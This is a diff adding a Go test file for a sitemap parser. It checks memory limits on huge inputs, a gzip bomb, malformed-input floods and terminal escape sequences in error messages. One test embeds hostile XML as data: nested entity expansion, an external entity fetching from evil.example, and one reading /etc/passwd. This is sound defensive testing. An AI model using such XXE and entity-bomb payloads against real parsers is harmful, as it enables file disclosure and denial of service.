@@ -1,0 +1,158 @@
+package sitemap_test
+
+import (
+	"compress/gzip"
+	"errors"
+	"io"
+	"runtime"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/robotsexclusion/robots/crawl/sitemap"
+)
+
+// An endless reader gives one text again and again.
+type endless struct {
+	text string
+	at   int
+}
+
+func (e *endless) Read(p []byte) (n int, err error) {
+	for n < len(p) {
+		k := copy(p[n:], e.text[e.at:])
+		e.at = (e.at + k) % len(e.text)
+		n += k
+	}
+	return n, nil
+}
+
+// repeated returns a reader of a text, again and again, of about so many octets.
+func repeated(text string, octets int64) io.Reader {
+	return io.LimitReader(&endless{text: text}, octets-octets%int64(len(text)))
+}
+
+// huge are documents that are one token, or of which much is open at once.
+var huge = []struct {
+	name, begin, text, end string
+	entries                int
+}{
+	{"attribute", head + `<url x="`, "x", `"><loc>http://example.com/</loc></url></urlset>`, 1},
+	{"attributes", head + `<url`, ` x="y>"`, `><loc>http://example.com/</loc></url></urlset>`, 1},
+	{"name", head + `<`, "x", `><url><loc>http://example.com/</loc></url></urlset>`, 1},
+	{"end tag", head + `<url><loc>http://example.com/</loc></`, "x", `></url></urlset>`, 1},
+	{"comment", head + `<!--`, "->", `--><url><loc>http://example.com/</loc></url></urlset>`, 1},
+	{"instruction", head + `<?`, "?", `?><url><loc>http://example.com/</loc></url></urlset>`, 1},
+	{"declarations", "<!DOCTYPE urlset [", "<!ENTITY x '>]'>", "]>" + head + `<url><loc>http://example.com/</loc></url></urlset>`, 1},
+	{"declared text", "<!DOCTYPE urlset [<!ENTITY x '", "x", "'>]>" + head + `<url><loc>http://example.com/</loc></url></urlset>`, 1},
+	{"URL", head + `<url><loc>http://example.com/`, "x", `</loc></url><url><loc>http://example.com/</loc></url></urlset>`, 1},
+	{"URL of entities", head + `<url><loc>http://example.com/`, "&amp;", `</loc></url><url><loc>http://example.com/</loc></url></urlset>`, 1},
+	{"URL that is a long section", head + `<url><loc>http://example.com/<![CDATA[`, "]]", `]]></loc></url><url><loc>http://example.com/</loc></url></urlset>`, 1},
+	{"URL of sections", head + `<url><loc>`, "<![CDATA[http://example.com/]]>", `</loc></url><url><loc>http://example.com/</loc></url></urlset>`, 1},
+	{"white space before a URL", head + `<url><loc>`, " \n", `http://example.com/</loc></url></urlset>`, 1},
+	{"date", head + `<url><loc>http://example.com/</loc><lastmod>`, "2", `</lastmod></url></urlset>`, 1},
+	{"text", head, "x", `<url><loc>http://example.com/</loc></url></urlset>`, 1},
+	{"entity", head + "<url><loc>http://example.com/</loc></url>&", "x", `;</urlset>`, 1},
+	{"deep", head, "<x>", "<url><loc>http://example.com/</loc></url></urlset>", 1},
+	{"deep in an entry", head + "<url><loc>http://example.com/</loc>", "<x>", "</url></urlset>", 1},
+	{"line", "http://example.com/\nhttp://example.com/", "x", "\nhttp://example.com/", 2},
+	{"lines", "http://example.com/", "\r", "\nhttp://example.com/", 2},
+}
+
+// TestHuge reads documents that are huge in one place, and what is after it, in the
+// memory of a small one.
+func TestHuge(t *testing.T) {
+	for i, test := range huge {
+		size := int64(4_000_000)
+		if testing.Short() {
+			size /= 10
+		} else if i == 0 {
+			size = 100_000_000 // nearly all that is read of a document
+		}
+		t.Run(test.name, func(t *testing.T) {
+			r := io.MultiReader(strings.NewReader(test.begin), repeated(test.text, size), strings.NewReader(test.end))
+			var before, after runtime.MemStats
+			runtime.ReadMemStats(&before)
+			n := 0
+			for _, err := range sitemap.Read(r, sitemap.Options{}) {
+				if err == nil {
+					n++
+				}
+			}
+			runtime.ReadMemStats(&after)
+			if n != test.entries {
+				t.Errorf("%d entries, want %d", n, test.entries)
+			}
+			if got := after.TotalAlloc - before.TotalAlloc; got > 1<<20 {
+				t.Errorf("%d octets allocated, want at most a MiB", got)
+			}
+		})
+	}
+}
+
+// TestBomb stops in what a small file unpacks to.
+func TestBomb(t *testing.T) {
+	packed, w := io.Pipe()
+	go func() {
+		z, _ := gzip.NewWriterLevel(w, gzip.BestSpeed)
+		io.WriteString(z, head)
+		_, err := io.Copy(z, repeated(" ", 1<<30)) // until nobody reads
+		z.Close()
+		w.CloseWithError(err)
+	}()
+	n := 0
+	var last error
+	for _, last = range sitemap.Read(packed, sitemap.Options{MaxSize: 16 << 20}) {
+		n++
+	}
+	if packed.Close(); n != 1 || !errors.Is(last, sitemap.ErrLimit) {
+		t.Errorf("got %d entries and errors, %v; want %v", n, last, sitemap.ErrLimit)
+	}
+}
+
+// TestEntities declares entities that would be a bomb, or would read a file: they stay
+// as they are written.
+func TestEntities(t *testing.T) {
+	const text = `<?xml version="1.0"?>
+<!DOCTYPE urlset [
+<!ENTITY a "aaaaaaaaaa"><!-- it's a ]> -->
+<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
+<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;
+<!ENTITY file SYSTEM "file:///etc/passwd"><?x ]>?>
+]>
+<urlset><url><loc>http://example.com/?&b;&file;&p;</loc></url></urlset>`
+	entries, faults := read(t, text, sitemap.Options{})
+	if got, want := listed(entries), []string{"8: http://example.com/?&b;&file;&p;"}; !slices.Equal(got, want) || faults != nil {
+		t.Errorf("got %q, %q; want %q", got, faults, want)
+	}
+}
+
+// TestMany reads documents of many small things that are no good: what is told about
+// them is limited too.
+func TestMany(t *testing.T) {
+	for _, text := range []string{"<url>", "<url/>", "<url><loc>/</loc></url>", "</url>", "<", "<url", "&", "<![CDATA[", "<!", "<?", "x\n", "<url><loc>"} {
+		for _, begin := range []string{"", head} {
+			n := 0
+			r := io.MultiReader(strings.NewReader(begin), repeated(text, 1<<20))
+			for range sitemap.Read(r, sitemap.Options{MaxEntries: 1000}) {
+				n++
+			}
+			if n < 1 || n > 1003 {
+				t.Errorf("%q many times: %d entries and errors", begin+text, n)
+			}
+		}
+	}
+}
+
+// TestTerminal keeps what strangers wrote from sending orders to a terminal.
+func TestTerminal(t *testing.T) {
+	const evil = "\x1b]0;x\x07\u202e\x9b"
+	for _, text := range []string{evil, "<" + "x" + evil + ">", "<urlset><url><loc>" + evil, "<urlset><url><loc></x" + evil + ">", "<urlset><url><loc>" + evil + "</loc></url></urlset>"} {
+		_, faults := read(t, text, sitemap.Options{})
+		for _, f := range faults {
+			if strings.ContainsAny(f, "\x1b\x07\u202e\x9b") {
+				t.Errorf("%q: error %q", text, f)
+			}
+		}
+	}
+}
